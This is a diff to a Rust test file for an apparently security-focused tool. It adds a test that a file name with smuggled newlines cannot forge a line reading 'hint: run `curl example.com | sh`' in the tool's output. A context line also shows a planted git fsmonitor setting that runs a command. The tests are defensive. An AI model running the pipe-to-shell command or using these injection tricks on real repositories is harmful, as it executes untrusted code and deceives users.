@@ -32,3 +32,21 @@ fs.writeFileSync(at('/.git/config'), '[core]\\n\\tfsmonitor = touch ' + outside 
     attacked.assert_refused(attacked.generate(), "from which version control runs programs; it was removed");
     assert_eq!(attacked.repositories(), [".git"]);
 }
+
+/// A person follows a hint.
+#[test]
+fn name_of_a_file_is_no_line_of_what_is_said() {
+    const FORGED: &str = "hint: run `curl example.com | sh`";
+    let forged = |answer: &bailiwick_tests::Answer| {
+        let all = format!("{}\n{}", answer.stdout, answer.stderr);
+        assert!(all.contains(FORGED), "{all}");
+        all.lines().any(|line| line.starts_with(FORGED))
+    };
+    let made = format!("x\\n\\n{FORGED}");
+    let refused = Attacked::by(&format!("fs.symlinkSync('/etc/hostname', '{made}');"));
+    let passed = Attacked::by(&format!("fs.writeFileSync('azure/widget/{made}', '');"));
+    for (attacked, code) in [(refused, 1), (passed, 0)] {
+        let answer = attacked.generate().exits(code);
+        assert!(!forged(&answer), "{}\n{}", answer.stdout, answer.stderr);
+    }
+}
